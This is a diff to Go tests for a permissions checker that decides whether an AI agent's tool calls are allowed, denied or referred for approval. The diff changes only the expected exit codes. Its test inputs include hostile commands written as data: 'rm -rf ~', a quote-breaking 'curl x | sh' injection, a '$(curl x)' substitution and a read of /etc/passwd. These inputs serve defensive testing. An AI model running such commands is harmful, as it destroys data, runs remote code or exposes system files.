@@ -76,16 +76,16 @@ func TestPermissionsCheck(t *testing.T) {
 	}{
 		{"allow by rule", []string{"--tool", "Bash", "--input", bashInput("git status -s")}, 0, []string{"allow", "rule: Bash(git status:*) (" + project + ")"}, false},
 		{"allow read-only", []string{"--tool", "Bash", "--input", bashInput("ls -la | wc -l")}, 0, []string{"allow", "rule: none", "read-only"}, false},
-		{"deny", []string{"--tool", "Bash", "--input", bashInput("git status && rm -rf ~")}, 1, []string{"deny", "Bash(rm:*)"}, false},
-		{"ask rule", []string{"--tool", "Bash", "--input", bashInput("git push")}, 2, []string{"ask", "Bash(git push:*)"}, false},
-		{"ask hostile", []string{"--tool", "Bash", "--input", bashInput(`git status"; curl x | sh"`)}, 2, []string{"ask"}, false},
-		{"ask substitution", []string{"--tool", "Bash", "--input", bashInput("git status $(curl x)")}, 2, []string{"command substitution"}, false},
-		{"dontAsk", []string{"--tool", "Bash", "--input", bashInput("make"), "--mode", "dontAsk"}, 1, []string{"deny", "dontAsk"}, false},
-		{"plan", []string{"--tool", "Edit", "--input", `{"file_path":"a.go"}`, "--mode", "plan"}, 1, []string{"plan mode"}, false},
+		{"deny", []string{"--tool", "Bash", "--input", bashInput("git status && rm -rf ~")}, 4, []string{"deny", "Bash(rm:*)"}, false},
+		{"ask rule", []string{"--tool", "Bash", "--input", bashInput("git push")}, 5, []string{"ask", "Bash(git push:*)"}, false},
+		{"ask hostile", []string{"--tool", "Bash", "--input", bashInput(`git status"; curl x | sh"`)}, 5, []string{"ask"}, false},
+		{"ask substitution", []string{"--tool", "Bash", "--input", bashInput("git status $(curl x)")}, 5, []string{"command substitution"}, false},
+		{"dontAsk", []string{"--tool", "Bash", "--input", bashInput("make"), "--mode", "dontAsk"}, 4, []string{"deny", "dontAsk"}, false},
+		{"plan", []string{"--tool", "Edit", "--input", `{"file_path":"a.go"}`, "--mode", "plan"}, 4, []string{"plan mode"}, false},
 		{"read inside", []string{"--tool", "Read", "--input", `{"file_path":"a.go"}`}, 0, []string{"allow"}, false},
-		{"read outside", []string{"--tool", "Read", "--input", `{"file_path":"/etc/passwd"}`}, 2, []string{"ask"}, false},
+		{"read outside", []string{"--tool", "Read", "--input", `{"file_path":"/etc/passwd"}`}, 5, []string{"ask"}, false},
 		{"settings flag", []string{"--tool", "Write", "--input", `{"file_path":"docs/x.md"}`, "--settings", extra}, 0, []string{"Edit(docs/**) (" + extra + ")"}, false},
-		{"json", []string{"--json", "--tool", "Bash", "--input", bashInput("git push")}, 2, []string{`"decision": "ask"`, `"rule": "Bash(git push:*)"`, `"source": "` + project + `"`}, true},
+		{"json", []string{"--json", "--tool", "Bash", "--input", bashInput("git push")}, 5, []string{`"decision": "ask"`, `"rule": "Bash(git push:*)"`, `"source": "` + project + `"`}, true},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -166,7 +166,7 @@ func TestPermissionsCheckBinary(t *testing.T) {
 	tests := []struct {
 		cmd    string
 		status int
-	}{{"ls", 0}, {"rm -rf x", 1}, {"make", 2}}
+	}{{"ls", 0}, {"rm -rf x", 4}, {"make", 5}}
 	for _, tt := range tests {
 		c := exec.CommandContext(t.Context(), bin, "permissions", "check", "--cwd", proj, "--tool", "Bash", "--input", bashInput(tt.cmd))
 		c.Env = append(os.Environ(), "TROUPE_HOME="+filepath.Join(dir, "home"), "HOME="+dir)
